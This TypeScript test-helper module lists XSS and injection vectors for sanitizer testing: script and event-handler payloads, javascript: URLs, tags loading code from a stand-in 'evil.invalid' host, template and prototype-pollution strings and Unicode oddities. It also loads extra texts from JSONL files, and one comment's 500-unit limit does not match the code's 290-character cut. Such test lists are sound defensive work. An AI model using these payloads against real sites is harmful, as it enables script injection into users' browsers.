import { readFile } from 'node:fs/promises';

/** Runs where it is taken for code; the address is nobody's. */
const attack = 'window.hacked=1,alert(1)';
const far = 'https://evil.invalid/x';

/** What is known to run or load when text is taken for HTML, CSS or an address. */
const vectors: readonly string[] = [
  `<script>${attack}</script>`,
  `<script src="${far}.js"></script>`,
  `<img src=x onerror="${attack}">`,
  `<img src="${far}.png">`,
  `<img srcset="${far} 1x">`,
  `<svg onload="${attack}">`,
  `<svg><script>${attack}</script></svg>`,
  `<svg><animate onbegin="${attack}" attributeName=x dur=1s>`,
  `<svg><use href="${far}.svg#a"/></svg>`,
  `<iframe src="javascript:${attack}"></iframe>`,
  `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  `<object data="${far}"></object>`,
  `<embed src="${far}">`,
  `<video src="${far}" onerror="${attack}"></video>`,
  `<audio src=x onerror="${attack}">`,
  `<body onload="${attack}">`,
  `<input autofocus onfocus="${attack}">`,
  `<select autofocus onfocus="${attack}">`,
  `<details open ontoggle="${attack}">`,
  `<marquee onstart="${attack}">`,
  `<a href="javascript:${attack}">click</a>`,
  `<a href="data:text/html,<script>${attack}</script>">click</a>`,
  `<form action="javascript:${attack}"><button>Go</button></form>`,
  `<button formaction="javascript:${attack}">Go</button>`,
  `<base href="${far}/">`,
  `<link rel=stylesheet href="${far}.css">`,
  `<link rel=prefetch href="${far}">`,
  `<meta http-equiv="refresh" content="0;url=${far}">`,
  `<style>@import "${far}.css";</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<div style="background:url(${far})">x</div>`,
  `<div style="animation:x" onanimationstart="${attack}">x</div>`,
  `<math><mi xlink:href="javascript:${attack}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${attack}">`,
  `<template><script>${attack}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${attack}'>">`,
  `<textarea></textarea><img src=x onerror="${attack}">`,
  `</textarea><script>${attack}</script>`,
  `</title><script>${attack}</script>`,
  `</style><script>${attack}</script>`,
  `--><script>${attack}</script><!--`,
  `]]><script>${attack}</script>`,
  `"><script>${attack}</script>`,
  `'><img src=x onerror=${attack}>`,
  `" onfocus="${attack}" autofocus="`,
  `' onmouseover='${attack}' x='`,
  '` onmouseover=alert(1) `',
  `javascript:${attack}`,
  `JaVaScRiPt:${attack}`,
  `java\tscript:${attack}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `&#60;img src=x onerror=${attack}&#62;`,
  `\\u003cscript\\u003e${attack}\\u003c/script\\u003e`,
  `%3Cscript%3E${attack}%3C/script%3E`,
  `＜script＞${attack}＜/script＞`,
  `<scr<script>ipt>${attack}</scr</script>ipt>`,
  `<SCRIPT\n>${attack}</SCRIPT\n>`,
  `<img/src=x/onerror=${attack}>`,
  `<x contenteditable onblur="${attack}">lose focus</x>`,
  `<dialog open onclose="${attack}"><form method=dialog><button>x</button></form></dialog>`,
  `<portal src="${far}"></portal>`,
  `![image](${far}.png)`,
  `[click](javascript:${attack})`,
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{alert(1)}'].join(''),
  '<%= alert(1) %>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<script>alert(1)</script>"}}',
  '__proto__',
  'constructor',
  '$1 $& $$ $`',
  '$NAME$ __MSG_name__',
  'left\u202eright\u202c \u2066isolated\u2069',
  'zero\u200bwidth\u200djoin\ufeff',
  '\u0001\u0007\u001b[31mred',
  'Z̸͎̀a̵͚͑l̶̗̇g̷͈̐o̴͇͐',
  '👩‍👩‍👧‍👦🏴‍☠️🇩🇪',
  'a'.repeat(300),
];

/** Our own vectors and the texts of the given JSONL files; rejects with the line that has no `text`. */
export async function naughtyTexts(files: readonly string[]): Promise<readonly string[]> {
  const more = await Promise.all(files.map(textsIn));
  // What is stored is trimmed and not empty, and has a limit of 500 units.
  return [...vectors, ...more.flat()]
    .filter((text) => text.trim())
    .map((text) => text.slice(0, 290));
}

async function textsIn(file: string): Promise<string[]> {
  const lines = (await readFile(file, 'utf8')).split('\n').filter((line) => line.trim() !== '');
  return lines.map((line, index) => {
    const { text } = JSON.parse(line) as { text?: unknown };
    if (typeof text !== 'string') throw new Error(`${file}:${index + 1} has no text.`);
    return text;
  });
}
